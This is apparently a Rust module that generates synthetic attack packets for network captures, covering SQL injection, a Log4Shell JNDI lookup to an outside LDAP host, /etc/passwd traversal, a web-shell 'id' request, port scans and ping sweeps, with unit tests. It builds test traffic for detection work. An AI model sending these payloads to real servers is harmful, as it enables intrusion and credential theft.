//! Attack traffic to mix into venue captures: web exploits, scans and a root-shell response.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::ops::RangeInclusive;

use super::frame::{Frame, FrameTime, sort_by_time};
use super::http;
use super::link::{Ethernet, mac_for_ip};
use super::packet::{Icmpv4Builder, Ipv4Builder, tcp_flags};
use super::rng::Rng;
use super::tcp_session::{Direction, TcpSession};

/// The internal web server the web attacks target.
pub const WEB_SERVER: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(10, 10, 0, 80)), 80);
/// Host header used towards [`WEB_SERVER`].
pub const WEB_HOST: &str = "tickets.venue.example";
/// External host running the SYN scan.
pub const SCANNER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
/// External host running the ICMP sweep.
pub const SWEEPER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 9);
/// External host sending the web exploits.
pub const WEB_ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
/// External client that receives the leaked `id` output.
pub const SHELL_CLIENT: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 77);

/// SQL injection in the query string. Spaces are percent-encoded as a client
/// must send them; the decoded URI reads
/// `/tickets?id=1' UNION SELECT username,password FROM users--`.
pub const SQLI_PATH: &str = "/tickets?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--";
/// JNDI lookup string placed in the User-Agent header.
pub const JNDI_USER_AGENT: &str = "${jndi:ldap://198.51.100.23:1389/a}";
/// Directory traversal request target.
pub const TRAVERSAL_PATH: &str = "/../../../../etc/passwd";
/// Output of `id` run as root.
pub const ROOT_ID_OUTPUT: &str = "uid=0(root) gid=0(root) groups=0(root)\n";

const ATTACK_UA: &str = "Mozilla/5.0 (compatible; scanner/1.0)";

/// One HTTP exchange from `client` to `server`: handshake, request, response, close.
pub(super) fn http_exchange(
    rng: &mut Rng,
    start: FrameTime,
    client: IpAddr,
    server: SocketAddr,
    request: &[u8],
    response: &[u8],
) -> Vec<Frame> {
    let client_sock = SocketAddr::new(client, rng.range(32768, 61000) as u16);
    let mut s = TcpSession::new(client_sock, server, start)
        .with_isns(rng.next_u32(), rng.next_u32())
        .with_step(rng.range(2_000_000, 12_000_000))
        .with_ttls(rng.range(44, 56) as u8, 64);
    s.handshake()
        .client_data(request)
        .server_data(response)
        .close(Direction::ToServer);
    s.into_frames()
}

/// (a) `GET` with a UNION-based SQL injection in the query; the server answers 500.
pub fn sql_injection(rng: &mut Rng, start: FrameTime, attacker: IpAddr, server: SocketAddr) -> Vec<Frame> {
    let req = http::get_request(WEB_HOST, SQLI_PATH, "sqlmap/1.8.4#stable (https://sqlmap.org)", &[]);
    let body = b"<html><body><h1>500 Internal Server Error</h1></body></html>\n";
    let resp = http::response(500, "Internal Server Error", "text/html", body);
    http_exchange(rng, start, attacker, server, &req, &resp)
}

/// (b) Log4Shell-style JNDI lookup in the User-Agent header.
pub fn log4shell_user_agent(rng: &mut Rng, start: FrameTime, attacker: IpAddr, server: SocketAddr) -> Vec<Frame> {
    let req = http::get_request(WEB_HOST, "/", JNDI_USER_AGENT, &[("X-Api-Version", JNDI_USER_AGENT)]);
    let resp = http::response(200, "OK", "text/html", &http::html_page("Tickets", "Welcome"));
    http_exchange(rng, start, attacker, server, &req, &resp)
}

/// (c) Directory traversal towards `/etc/passwd`; the server refuses it.
pub fn path_traversal(rng: &mut Rng, start: FrameTime, attacker: IpAddr, server: SocketAddr) -> Vec<Frame> {
    let req = http::get_request(WEB_HOST, TRAVERSAL_PATH, ATTACK_UA, &[]);
    let resp = http::response(400, "Bad Request", "text/plain", b"bad request\n");
    http_exchange(rng, start, attacker, server, &req, &resp)
}

/// (d) Half-open SYN scan of `ports`: closed ports answer RST/ACK, `open`
/// ports answer SYN/ACK and the scanner then resets. One probe every 0.5 ms.
pub fn syn_port_scan(
    rng: &mut Rng,
    start: FrameTime,
    scanner: IpAddr,
    target: IpAddr,
    ports: RangeInclusive<u16>,
    open: &[u16],
) -> Vec<Frame> {
    let src_port = rng.range(40000, 65000) as u16;
    let mut frames = Vec::new();
    for (i, port) in ports.enumerate() {
        let t = start.plus_micros(500 * i as u64);
        let is_open = open.contains(&port);
        // A closed port's RST carries sequence 0, as real stacks send it.
        let server_isn = if is_open { rng.next_u32() } else { 0 };
        let mut s = TcpSession::new(SocketAddr::new(scanner, src_port), SocketAddr::new(target, port), t)
            .with_isns(rng.next_u32(), server_isn)
            .with_step(rng.range(100_000, 300_000))
            .with_ttls(45, 64);
        s.segment(Direction::ToServer, tcp_flags::SYN, &[]);
        if is_open {
            s.segment(Direction::ToClient, tcp_flags::SYN | tcp_flags::ACK, &[])
                .segment(Direction::ToServer, tcp_flags::RST, &[]);
        } else {
            s.segment(Direction::ToClient, tcp_flags::RST | tcp_flags::ACK, &[]);
        }
        frames.extend(s.into_frames());
    }
    sort_by_time(&mut frames);
    frames
}

/// (e) Echo requests to every host .1-.254 of the /24 containing `network`;
/// hosts whose last octet is in `alive` answer.
pub fn icmp_sweep(rng: &mut Rng, start: FrameTime, scanner: Ipv4Addr, network: Ipv4Addr, alive: &[u8]) -> Vec<Frame> {
    let id = rng.next_u32() as u16;
    let [a, b, c, _] = network.octets();
    let payload: Vec<u8> = (0u8..56).map(|i| i.wrapping_add(0x10)).collect();
    let scanner_mac = mac_for_ip(scanner.into());
    let mut scanner_ip_id = rng.next_u32() as u16;
    let mut frames = Vec::new();
    for host in 1u8..=254 {
        let target = Ipv4Addr::new(a, b, c, host);
        let target_mac = mac_for_ip(target.into());
        let t = start.plus_millis(u64::from(host));
        let seq = u16::from(host);
        scanner_ip_id = scanner_ip_id.wrapping_add(1);
        let req_ip = Ipv4Builder {
            ttl: 50,
            id: scanner_ip_id,
            ..Ipv4Builder::new(scanner, target)
        };
        let req = Icmpv4Builder::echo_request(id, seq).packet(&req_ip, &payload);
        frames.push(Frame::new(t, Ethernet::new(scanner_mac, target_mac).ip_frame(&req)));
        if alive.contains(&host) {
            let reply_ip = Ipv4Builder {
                id: rng.next_u32() as u16,
                ..Ipv4Builder::new(target, scanner)
            };
            let reply = Icmpv4Builder::echo_reply(id, seq).packet(&reply_ip, &payload);
            let rt = t.plus_micros(rng.range(150, 600));
            frames.push(Frame::new(rt, Ethernet::new(target_mac, scanner_mac).ip_frame(&reply)));
        }
    }
    sort_by_time(&mut frames);
    frames
}

/// (f) A web shell on `server` runs `id` for an external `client` and the
/// response body leaks `uid=0(root) gid=0(root)`.
pub fn root_id_leak(rng: &mut Rng, start: FrameTime, server: SocketAddr, client: IpAddr) -> Vec<Frame> {
    let req = http::get_request(WEB_HOST, "/uploads/shell.php?cmd=id", "curl/8.5.0", &[]);
    let resp = http::response(200, "OK", "text/plain", ROOT_ID_OUTPUT.as_bytes());
    http_exchange(rng, start, client, server, &req, &resp)
}

/// All six attacks with their default addresses, one every `spacing_secs`
/// from `start`: (a), (b), (c), (d) ports 1-1024 with 22/80/443 open,
/// (e) sweep of 10.10.0.0/24 with .1/.53/.80 alive, (f). Time-ordered.
pub fn attack_suite(rng: &mut Rng, start: FrameTime, spacing_secs: u64) -> Vec<Frame> {
    let at = |i: u64| start.plus_nanos(i * spacing_secs.saturating_mul(1_000_000_000));
    let attacker = IpAddr::V4(WEB_ATTACKER);
    let mut frames = sql_injection(rng, at(0), attacker, WEB_SERVER);
    frames.extend(log4shell_user_agent(rng, at(1), attacker, WEB_SERVER));
    frames.extend(path_traversal(rng, at(2), attacker, WEB_SERVER));
    frames.extend(syn_port_scan(
        rng,
        at(3),
        SCANNER.into(),
        WEB_SERVER.ip(),
        1..=1024,
        &[22, 80, 443],
    ));
    frames.extend(icmp_sweep(
        rng,
        at(4),
        SWEEPER,
        Ipv4Addr::new(10, 10, 0, 0),
        &[1, 53, 80],
    ));
    frames.extend(root_id_leak(rng, at(5), WEB_SERVER, SHELL_CLIENT.into()));
    sort_by_time(&mut frames);
    frames
}

#[cfg(test)]
mod tests {
    use super::super::test_support::{L4, check_frame, check_frames};
    use super::*;

    fn start() -> FrameTime {
        FrameTime::new(1_717_264_800, 0)
    }

    fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
        headers.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str())
    }

    #[test]
    fn web_attacks_carry_their_strings() {
        let mut rng = Rng::new(3);
        let a = IpAddr::V4(WEB_ATTACKER);
        let s = check_frames(&sql_injection(&mut rng, start(), a, WEB_SERVER));
        assert_eq!(s.http_requests[0].0, SQLI_PATH);
        assert_eq!(s.http_responses[0].0, 500);
        let s = check_frames(&log4shell_user_agent(&mut rng, start(), a, WEB_SERVER));
        assert_eq!(header(&s.http_requests[0].1, "User-Agent"), Some(JNDI_USER_AGENT));
        let s = check_frames(&path_traversal(&mut rng, start(), a, WEB_SERVER));
        assert_eq!(s.http_requests[0].0, "/../../../../etc/passwd");
        let s = check_frames(&root_id_leak(&mut rng, start(), WEB_SERVER, SHELL_CLIENT.into()));
        assert!(s.http_responses[0].1.starts_with(b"uid=0(root) gid=0(root)"));
    }

    #[test]
    fn leak_flows_from_home_to_external() {
        let mut rng = Rng::new(4);
        let frames = root_id_leak(&mut rng, start(), WEB_SERVER, SHELL_CLIENT.into());
        let leak = frames
            .iter()
            .find(|f| f.data.windows(10).any(|w| w == b"uid=0(root"))
            .unwrap();
        let (src, dst, _) = check_frame(&leak.data).unwrap();
        assert_eq!((src, dst), (WEB_SERVER.ip(), IpAddr::V4(SHELL_CLIENT)));
    }

    #[test]
    fn port_scan_answers() {
        let mut rng = Rng::new(5);
        let frames = syn_port_scan(
            &mut rng,
            start(),
            SCANNER.into(),
            WEB_SERVER.ip(),
            1..=1024,
            &[22, 80, 443],
        );
        assert_eq!(frames.len(), 1024 * 2 + 3);
        let s = check_frames(&frames);
        assert_eq!(s.tcp, frames.len());
        let mut syn_acks = Vec::new();
        let mut rsts = 0;
        for f in &frames {
            if let (_, _, L4::Tcp { sport, flags, .. }) = check_frame(&f.data).unwrap() {
                if flags == tcp_flags::SYN | tcp_flags::ACK {
                    syn_acks.push(sport);
                } else if flags == tcp_flags::RST | tcp_flags::ACK {
                    rsts += 1;
                }
            }
        }
        assert_eq!(syn_acks, [22, 80, 443]);
        assert_eq!(rsts, 1021);
    }

    #[test]
    fn sweep_and_suite() {
        let mut rng = Rng::new(6);
        let sweep = icmp_sweep(&mut rng, start(), SWEEPER, Ipv4Addr::new(10, 10, 0, 0), &[1, 53, 80]);
        assert_eq!(sweep.len(), 257);
        assert_eq!(check_frames(&sweep).icmp, 257);
        let replies = sweep
            .iter()
            .filter(|f| matches!(check_frame(&f.data), Ok((_, _, L4::Icmp { icmp_type: 0 }))))
            .count();
        assert_eq!(replies, 3);
        let suite = attack_suite(&mut Rng::new(7), start(), 2);
        let s = check_frames(&suite);
        assert_eq!(s.icmp, 257);
        assert_eq!(s.http_requests.len(), 4);
        assert_eq!(suite, attack_suite(&mut Rng::new(7), start(), 2));
    }
}
